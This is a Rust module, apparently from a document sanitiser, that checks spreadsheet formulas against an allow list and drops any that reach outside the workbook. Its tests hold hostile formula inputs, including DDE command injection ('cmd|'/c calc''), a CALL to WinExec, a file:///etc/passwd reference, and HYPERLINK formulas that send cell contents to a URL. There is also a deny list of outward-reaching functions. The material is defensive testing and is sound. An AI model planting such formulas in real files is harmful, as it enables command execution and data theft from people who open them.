//! Formulas of spreadsheets: cut into tokens and held against a list of functions.
//!
//! A formula stays when it computes from this workbook only. What reaches outside (other workbooks, DDE, the web, the
//! file system, add-ins, macros) is not kept, and neither is a function that nobody has put on the list.

use std::collections::HashSet;
use std::sync::OnceLock;

use super::links;

/// What a formula of this workbook may not name, because it is not in the output.
#[derive(Debug, Default)]
pub(super) struct Scope {
    /// Defined names that were dropped, in lower case.
    pub(super) names: HashSet<String>,
    /// Sheets that were dropped, in lower case.
    pub(super) sheets: HashSet<String>,
    /// Links are dropped whatever their target.
    pub(super) drop_links: bool,
}

/// May this formula (without the leading `=`) stay in a document of any kind?
pub(super) fn is_allowed(formula: &str) -> bool {
    static ANY: OnceLock<Scope> = OnceLock::new();
    is_allowed_in(formula, ANY.get_or_init(Scope::default))
}

/// May this formula stay in this workbook?
pub(super) fn is_allowed_in(formula: &str, scope: &Scope) -> bool {
    let formula = formula.trim();
    !formula.is_empty()
        && formula.len() <= 8_192 * 4
        && Tokens { rest: formula, whole: formula, scope }.all_allowed()
}

struct Tokens<'a> {
    rest: &'a str,
    whole: &'a str,
    scope: &'a Scope,
}

impl Tokens<'_> {
    fn all_allowed(&mut self) -> bool {
        let mut previous_is_name = false;
        let mut braces = 0_i32;
        while let Some(c) = self.rest.chars().next() {
            let mut is_name = false;
            match c {
                '"' => {
                    if self.quoted('"').is_none() {
                        return false;
                    }
                }
                '\'' => match self.quoted('\'') {
                    Some(sheet)
                        if sheet_is_local(&sheet)
                            && self.rest.starts_with('!')
                            && !self.scope.sheets.contains(&sheet.to_lowercase()) => {}
                    _ => return false,
                },
                // A bracket that follows a table's name selects its columns; any other names another workbook.
                '[' => {
                    if !previous_is_name || !self.columns() {
                        return false;
                    }
                }
                '#' => {
                    let errors = [
                        "#REF!",
                        "#N/A",
                        "#VALUE!",
                        "#NAME?",
                        "#DIV/0!",
                        "#NUM!",
                        "#NULL!",
                        "#SPILL!",
                        "#CALC!",
                        "#GETTING_DATA",
                    ];
                    let length = errors.iter().find(|e| self.rest.starts_with(**e)).map_or(1, |e| e.len());
                    self.advance(length);
                }
                '{' | '}' => {
                    braces += if c == '{' { 1 } else { -1 };
                    self.advance(1);
                }
                c if is_name_start(c) => {
                    let length = self.rest.find(|c: char| !is_name_part(c)).unwrap_or(self.rest.len());
                    let name = self.rest.get(..length).unwrap_or_default();
                    let tail = self.rest.get(length..).unwrap_or_default();
                    let arguments = tail.trim_start().strip_prefix('(');
                    // `(` after white space is an intersection with a group, unless the name is a function's.
                    let fine = match arguments {
                        Some(arguments) => self.call_is_allowed(name, arguments.trim_start()),
                        None if tail.starts_with('!') => !self.scope.sheets.contains(&name.to_lowercase()),
                        None => {
                            self.scope.names.is_empty() || !self.scope.names.contains(&name.to_lowercase())
                        }
                    };
                    if !fine {
                        return false;
                    }
                    let call = arguments.is_some();
                    is_name = !call;
                    self.advance(length);
                }
                '0'..='9' | '.' => {
                    let length = self
                        .rest
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.'))
                        .unwrap_or(self.rest.len());
                    self.advance(length);
                }
                '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' | '%' | '(' | ')' | ',' | ';' | ':'
                | '!' | '@' | '$' | '~' | ' ' | '\n' | '\r' | '\t' => self.advance(c.len_utf8()),
                _ => return false,
            }
            previous_is_name = is_name;
        }
        braces == 0
    }

    /// Some functions depend on what they are given, which must then stand there as a text.
    fn call_is_allowed(&self, name: &str, arguments: &str) -> bool {
        let upper = name.to_ascii_uppercase();
        let literal = || {
            let rest = arguments.strip_prefix('"')?;
            rest.split_once('"').map(|(text, _)| text)
        };
        match upper.as_str() {
            // One text, whole: what a formula joins to an address would tell its host what the cells say.
            "HYPERLINK" => {
                let alone = arguments
                    .strip_prefix('"')
                    .and_then(|rest| rest.split_once('"'))
                    .is_some_and(|(_, after)| after.trim_start().starts_with([',', ')']));
                let target = literal().filter(|_| alone).unwrap_or_default();
                let inside =
                    target.starts_with('#') && !target.contains(['\\', '|', '[']) && !target.contains("//");
                inside || (!self.scope.drop_links && links::allowed(&links::normalised(target)))
            }
            // Where the file lies on the reader's computer is nobody's business.
            "CELL" => {
                literal().is_some_and(|what| CELL_ASPECTS.contains(&what.to_ascii_lowercase().as_str()))
            }
            // Excel reaches open workbooks only, others fetch files: no text of it may look like a path.
            "INDIRECT" => self
                .whole
                .split('"')
                .skip(1)
                .step_by(2)
                .all(|text| !text.contains(['[', ']', '/', '\\', '|'])),
            _ => match upper.strip_prefix("_XLPM.") {
                // A function that LET or a parameter of LAMBDA names.
                Some(parameter) => !SPECIAL.contains(&parameter),
                None => function_is_allowed(&upper),
            },
        }
    }

    fn advance(&mut self, bytes: usize) {
        self.rest = self.rest.get(bytes..).unwrap_or_default();
    }

    /// Takes a quoted token, doubled quotes inside.
    fn quoted(&mut self, quote: char) -> Option<String> {
        let mut value = String::new();
        self.advance(1);
        loop {
            let at = self.rest.find(quote)?;
            value.push_str(self.rest.get(..at)?);
            self.advance(at + 1);
            if !self.rest.starts_with(quote) {
                return Some(value);
            }
            value.push(quote);
            self.advance(1);
        }
    }

    /// Takes `[…]` with columns in it, `'` escaping the next character.
    fn columns(&mut self) -> bool {
        let mut depth = 0_u32;
        let mut escaped = false;
        for (at, c) in self.rest.char_indices() {
            match c {
                _ if escaped => escaped = false,
                '\'' => escaped = true,
                '[' => depth += 1,
                ']' => depth = depth.saturating_sub(1),
                '|' | '!' | '\\' => return false,
                _ => {}
            }
            if depth == 0 {
                self.advance(at + c.len_utf8());
                return !self.rest.starts_with('!');
            }
        }
        false
    }
}

fn sheet_is_local(name: &str) -> bool {
    !name.is_empty() && !name.contains(['[', ']', '|', '/', '\\', '*', '?'])
}

fn is_name_start(c: char) -> bool {
    c.is_alphabetic() || c == '_' || (!c.is_ascii() && !c.is_control() && !c.is_whitespace())
}

fn is_name_part(c: char) -> bool {
    is_name_start(c) || c.is_numeric() || matches!(c, '.' | '_' | '$' | '?')
}

/// What CELL may tell; not the file's name.
const CELL_ASPECTS: &[&str] = &[
    "address",
    "col",
    "color",
    "contents",
    "format",
    "parentheses",
    "prefix",
    "protect",
    "row",
    "type",
    "width",
];

/// Names that no parameter may take: read again as a function, they reach outside.
const SPECIAL: &[&str] = &[
    "WEBSERVICE",
    "FILTERXML",
    "RTD",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "IMAGE",
    "HYPERLINK",
    "INFO",
    "CELL",
    "INDIRECT",
    "STOCKHISTORY",
    "TRANSLATE",
    "DETECTLANGUAGE",
    "PY",
    "COPILOT",
];

/// Is this function, its name in capital letters, on the list?
fn function_is_allowed(upper: &str) -> bool {
    static FUNCTIONS: OnceLock<HashSet<&'static str>> = OnceLock::new();
    let list = FUNCTIONS.get_or_init(|| {
        let lines = sekisho_verify::lists::FUNCTIONS.lines();
        lines.filter(|line| !line.starts_with('#')).flat_map(str::split_ascii_whitespace).collect()
    });
    let bare = upper.strip_prefix("_XLFN.").unwrap_or(upper);
    let bare = bare.strip_prefix("_XLWS.").unwrap_or(bare);
    list.contains(bare)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_on_this_workbook_stay() {
        for formula in [
            "SUM(A1:B2)",
            "IF('集計 表'!$A$1>0,VLOOKUP(A1,名簿!$A:$C,3,FALSE),\"無し\")",
            "Table1[[#This Row],[金額]]*1.1",
            "SUM(Table1[金額])",
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "{1,2;3,4}",
            "A1#",
            "#REF!+1",
            "1E+10*.5%",
            "TEXT(A1,\"ggge年m月d日\")",
            "売上合計+1",
            "HYPERLINK(\"https://example.jp/?q=1\" ,\"地図\"&A1)",
            "HYPERLINK(\"#目次!A1\")",
            "CELL(\"address\",A1)",
            "INDIRECT(\"R\"&ROW()&\"C1\",FALSE)",
            "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))",
            "_xlfn._xlws.FILTER(A1:A9,B1:B9=\"済\")",
            "_xlfn.TEXTSPLIT(A1,\"、\")",
        ] {
            assert!(is_allowed(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_that_reach_outside_go() {
        for formula in [
            "WEBSERVICE(\"http://127.0.0.1/\")",
            "_xlfn.WEBSERVICE(A1)",
            "cmd|'/c calc'!A0",
            "'cmd'|'/c calc'!A0",
            "[1]Sheet1!A1",
            "'[1]Sheet 1'!A1",
            "'\\\\host\\share\\[a.xlsx]S'!A1",
            "[1]!name",
            "EXEC(\"calc\")",
            "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "REGISTER.ID(\"a\",\"b\")",
            "RTD(\"a\",,\"b\")",
            "IMAGE(\"http://127.0.0.1/a.png\")",
            "_xll.Foo()",
            "MyMacro(1)",
            "INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")",
            "HYPERLINK(A1)",
            "HYPERLINK(\"file:///c:/a.exe\")",
            "HYPERLINK(\"\\\\host\\a.exe\")",
            "HYPERLINK(\"https://\"&A1)",
            "HYPERLINK(\"https://example.jp/?q=\"&A1,\"地図\")",
            "HYPERLINK(\"https://example.jp/\"\"\"&A1,\"地図\")",
            "HYPERLINK(\"#\"&A1&\"!A1\",\"目次\")",
            "CELL(\"filename\",A1)",
            "CELL(A1)",
            "INFO(\"directory\")",
            "INDIRECT(\"[a.xlsx]S!A1\")",
            "_xlfn.LET(_xlpm.WEBSERVICE,1,_xlpm.WEBSERVICE(A1))",
            "CUBEVALUE(\"a\",\"b\")",
            "\"open",
            "",
        ] {
            assert!(!is_allowed(formula), "{formula}");
        }
    }

    #[test]
    fn what_is_not_in_the_output_is_not_named() {
        let scope = Scope {
            names: HashSet::from(["外".to_owned()]),
            sheets: HashSet::from(["macro1".to_owned()]),
            drop_links: true,
        };
        for formula in ["外+1", "SUM(Macro1!A1)", "'Macro1'!A1", "HYPERLINK(\"https://example.jp/\")"] {
            assert!(is_allowed(formula) && !is_allowed_in(formula, &scope), "{formula}");
        }
        assert!(is_allowed_in("\"外\"&内!A1", &scope));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_judged_without_panic(text in ".{0,80}") {
            is_allowed(&text);
        }
    }
}
